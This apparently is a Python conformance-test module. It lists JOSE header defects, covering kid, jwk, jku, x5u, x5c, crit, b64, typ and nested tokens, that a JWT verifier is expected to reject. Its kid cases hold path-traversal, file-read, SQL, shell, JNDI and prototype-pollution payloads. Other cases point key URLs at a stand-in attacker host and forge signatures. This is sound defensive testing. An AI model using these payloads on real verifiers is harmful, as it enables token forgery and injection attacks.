"""Defects of the JOSE header but for `alg` (RFC 7515 section 4, RFC 8725): what it names, and may not decide."""

from base64 import b64encode
from typing import Any, Final

from cryptography.hazmat.primitives.serialization import Encoding

from conformance.tokens.defect import Change, Defect, Verdict
from conformance.tokens.draft import Draft, json_text
from conformance.tokens.signer import ATTACKER, forged, named, rsa_signed
from conformance.tokens.signing import signature
from mock_platform.base64url import base64url_from_bytes
from mock_platform.certificate import self_signed
from mock_platform.keys import fixture_key

_DOMAIN: Final = "attacker.example.net"
_HOST: Final = f"https://{_DOMAIN}"


def _header(**members: Any) -> Change:
    return lambda draft: draft.with_header(**members)


def _kid_left_out(draft: Draft) -> Draft:
    return draft.without_header("kid")


def _kid_left_out_of_one_key(draft: Draft) -> Draft:
    alone = [jwk for jwk in draft.key_set if jwk.get("kid") == draft.header["kid"]]
    return draft.with_keys(*alone).without_header("kid")


def _kid_of_neither(draft: Draft) -> Draft:
    """Leave the kid out of the header and of the only key, so that nothing equals nothing."""
    alone = _kid_left_out_of_one_key(draft)
    return alone.with_keys(*({name: value for name, value in jwk.items() if name != "kid"} for jwk in alone.key_set))


def _kid_as_array(draft: Draft) -> Draft:
    return draft.with_header(kid=[draft.header["kid"]])


def _kid_as_object(draft: Draft) -> Draft:
    return draft.with_header(kid={"kid": draft.header["kid"]})


def _kid_as_number(draft: Draft) -> Draft:
    return named(draft, "4711").with_header(kid=4711)


def _published_as(kid: str, written: str) -> Change:
    """Publish the key under one name, and call it another that is not quite the same."""
    return lambda draft: named(draft, kid).with_header(kid=written)


def _offering(**members: Any) -> Change:
    """Sign as an attacker, and offer his key in the header, under the kid of a key that is published."""
    return lambda draft: forged(rsa_signed(draft)).with_header(**members)


def _offering_under_his_kid(**members: Any) -> Change:
    return _offering(**members, kid=fixture_key(ATTACKER).kid)


def _offering_without_kid(**members: Any) -> Change:
    return lambda draft: _offering(**members)(draft).without_header("kid")


def _offers(**members: Any) -> dict[str, Change]:
    return {
        "under-a-kid-of-the-set": _offering(**members),
        "under-his-own-kid": _offering_under_his_kid(**members),
        "without-kid": _offering_without_kid(**members),
    }


def _offering_a_secret(draft: Draft) -> Draft:
    """Sign by HMAC, and offer the secret in the header."""
    secret = b"a secret that stands in the header"
    jwk = {"kty": "oct", "k": base64url_from_bytes(secret), "alg": "HS256"}
    return draft.with_header(alg="HS256", jwk=jwk).signed_with(secret, "HS256")


def _at_a_lookalike(member: str, file: str) -> Change:
    """Offer an address that begins as the issuer does."""

    def change(draft: Draft) -> Draft:
        return _offering_under_his_kid(**{member: f"{draft.setting.issuer}@{_DOMAIN}/{file}"})(draft)

    return change


def _addresses(member: str, file: str, content: str) -> dict[str, Change]:
    """Offer the attacker's key by its address: his own, one like the issuer's, and one that holds the key itself."""
    return {
        **_offers(**{member: f"{_HOST}/{file}"}),
        "address-like-that-of-the-issuer": _at_a_lookalike(member, file),
        "address-that-holds-it": _offering_under_his_kid(**{member: content}),
    }


def _certificate(encoding: Encoding) -> str:
    return b64encode(self_signed(fixture_key(ATTACKER)).public_bytes(encoding)).decode("ascii")


def _key_set() -> str:
    return b64encode(json_text({"keys": [fixture_key(ATTACKER).public_jwk]})).decode("ascii")


def _unencoded(**members: Any) -> Change:
    """Sign and send the payload as it is (RFC 7797): its dots are escaped, so that the parts remain three."""

    def change(draft: Draft) -> Draft:
        said = draft.with_header(b64=False, **members)
        claims = json_text(said.claims).replace(b".", b"\\u002e").decode()
        return said.input_written(lambda text: f"{text.partition('.')[0]}.{claims}")

    return change


def _nested(draft: Draft) -> Draft:
    """Sign a token that holds another, which nobody signed."""
    header = base64url_from_bytes(json_text({"alg": "none", "typ": "JWT"}))
    return draft.with_header(cty="JWT").payload_written(lambda text: f"{header}.{base64url_from_bytes(text)}.".encode())


def _nested_forgery(draft: Draft) -> Draft:
    """Sign a token that holds another, which the attacker signed."""

    def inside(text: bytes) -> bytes:
        header = json_text({"alg": "RS256", "typ": "JWT", "kid": fixture_key(ATTACKER).kid})
        signing_input = f"{base64url_from_bytes(header)}.{base64url_from_bytes(text)}"
        signed = signature("RS256", fixture_key(ATTACKER).private_key, signing_input.encode("ascii"))
        return f"{signing_input}.{base64url_from_bytes(signed)}".encode()

    return draft.with_header(cty="JWT").payload_written(inside)


HEADER: Final = (
    Defect(
        name="kid-left-out",
        requirements=("IDT-SIG-017",),
        reason="the key is chosen by its kid, so a token has to name one (Sec 6.3, certification test)",
        forms={
            "several-keys": _kid_left_out,
            "one-key": _kid_left_out_of_one_key,
            "a-key-without-kid": _kid_of_neither,
            "empty": _header(kid=""),
        },
    ),
    Defect(
        name="kid-unknown",
        requirements=("IDT-SIG-018",),
        reason="the key set has no key of that name (Sec 6.3)",
        forms={
            "of-nobody": _header(kid="nobody-has-this-kid"),
            "other-case": _published_as("Key-One", "key-one"),
            "longer": _published_as("key-1", "key-10"),
            "shorter": _published_as("key-10", "key-1"),
            "before-a-blank": _published_as("key-1", "key-1 "),
            "before-a-nul": _published_as("key-1", "key-1\0"),
            "composed-otherwise": _published_as("schl\u00fcssel", "schlu\u0308ssel"),
        },
    ),
    Defect(
        name="kid-not-a-text",
        requirements=("IDT-SIG-019", "IDT-SIG-018"),
        reason="kid is a text (RFC 7515 section 4.1.4), and is read before anything is verified",
        forms={
            "null": _header(kid=None),
            "number": _kid_as_number,
            "true": _header(kid=True),
            "array": _kid_as_array,
            "object": _kid_as_object,
        },
    ),
    Defect(
        name="kid-not-ordinary",
        requirements=("IDT-SIG-019", "IDT-SIG-020", "IDT-SIG-018"),
        reason="a kid is compared and nothing else: no path, no query, no address (RFC 8725 section 3.10)",
        forms={
            "path": _header(kid="../../../../../../dev/null"),
            "address-of-a-file": _header(kid="file:///etc/passwd"),
            "address": _header(kid=f"{_HOST}/key.pem"),
            "sql": _header(kid="' OR 1=1--"),
            "command": _header(kid="x; sleep 60 #"),
            "format": _header(kid="{0.__class__} %s %n ${jndi:ldap://x/}"),
            "name-of-a-member": _header(kid="__proto__"),
            "nul": _header(kid="a\0b"),
            "very-long": _header(kid="k" * 20_000),
        },
    ),
    Defect(
        name="jwk-of-the-attacker",
        requirements=("IDT-SIG-011", "IDT-SIG-008"),
        reason="whoever writes the token writes the key in its header too",
        forms={**_offers(jwk=fixture_key(ATTACKER).public_jwk), "secret": _offering_a_secret},
    ),
    Defect(
        name="jku-of-the-attacker",
        requirements=("IDT-SIG-012", "IDT-SIG-008"),
        reason="the address of the key set comes from the registration, not from the token (RFC 8725 section 3.10)",
        forms=_addresses("jku", "keys.json", f"data:application/json;base64,{_key_set()}"),
    ),
    Defect(
        name="x5u-of-the-attacker",
        requirements=("IDT-SIG-013", "IDT-SIG-008"),
        reason="a certificate that the token points at proves nothing (RFC 8725 section 3.10)",
        forms=_addresses("x5u", "certificate.pem", f"data:application/x-pem-file;base64,{_certificate(Encoding.PEM)}"),
    ),
    Defect(
        name="x5c-of-the-attacker",
        requirements=("IDT-SIG-014", "IDT-SIG-008"),
        reason="a certificate that signed itself vouches for nobody",
        forms=_offers(x5c=[_certificate(Encoding.DER)]),
    ),
    Defect(
        name="crit-unknown",
        requirements=("IDT-SIG-015",),
        reason="what the sender calls critical has to be understood, or the token refused (RFC 7515 section 4.1.11)",
        forms={
            "of-nobody": _header(crit=["x-unknown"], **{"x-unknown": True}),
            "not-in-the-header": _header(crit=["x-unknown"]),
            "twice": _header(crit=["x-unknown", "x-unknown"], **{"x-unknown": True}),
            "after-a-known-one": _header(crit=["b64", "x-unknown"], b64=True, **{"x-unknown": True}),
            "an-address": _header(crit=[f"{_HOST}/UNDEFINED"], **{f"{_HOST}/UNDEFINED": True}),
        },
    ),
    Defect(
        name="crit-of-the-wrong-kind",
        requirements=("IDT-SIG-015",),
        reason="senders must not write crit so, and recipients may refuse it (RFC 7515 section 4.1.11)",
        verdict=Verdict.ACCEPTABLE,
        forms={
            "empty": _header(crit=[]),
            "registered-name": _header(crit=["alg"]),
            "name-of-a-claim": _header(crit=["exp"], exp=0),
            "text": _header(crit="alg"),
            "null": _header(crit=None),
            "b64-true": _header(crit=["b64"], b64=True),
        },
    ),
    Defect(
        name="payload-not-encoded",
        requirements=("IDT-SIG-016",),
        reason="b64 false is not for tokens, and means a payload that is not encoded (RFC 7797 sections 6 and 7)",
        forms={
            "unencoded": _unencoded(crit=["b64"]),
            "encoded-all-the-same": _header(b64=False, crit=["b64"]),
            "unencoded-and-not-critical": _unencoded(),
        },
    ),
    Defect(
        name="b64-false-but-not-critical",
        requirements=("IDT-SIG-016",),
        reason="a member that is not called critical is ignored by who does not know it (RFC 7515 section 4)",
        verdict=Verdict.ACCEPTABLE,
        forms={"encoded": _header(b64=False)},
    ),
    Defect(
        name="typ-of-another-token",
        requirements=("IDT-SIG-027",),
        reason="the token says that it is of another kind (RFC 8725 section 3.11)",
        verdict=Verdict.ACCEPTABLE,
        forms={
            "access-token": _header(typ="at+jwt"),
            "logout-token": _header(typ="logout+jwt"),
            "event": _header(typ="secevent+jwt"),
            "proof": _header(typ="dpop+jwt"),
            "jose": _header(typ="JOSE"),
            "jose-json": _header(typ="JOSE+JSON"),
            "number": _header(typ=1),
            "null": _header(typ=None),
            "array": _header(typ=["JWT"]),
        },
    ),
    Defect(
        name="nested-token",
        requirements=("IDT-SIG-031", "IDT-SIG-030"),
        reason="the outer signature does not say who wrote the claims inside (RFC 8725 section 3.3)",
        forms={
            "unsigned-inside": _nested,
            "signed-by-the-attacker-inside": _nested_forgery,
            "without-cty": lambda draft: _nested(draft).without_header("cty"),
        },
    ),
    Defect(
        name="cty-without-a-token",
        requirements=("IDT-SIG-031",),
        reason="cty announces a token inside, and there are claims (RFC 7519 section 5.2)",
        verdict=Verdict.ACCEPTABLE,
        forms={"jwt": _header(cty="JWT"), "lower-case": _header(cty="jwt"), "json": _header(cty="application/json")},
    ),
)
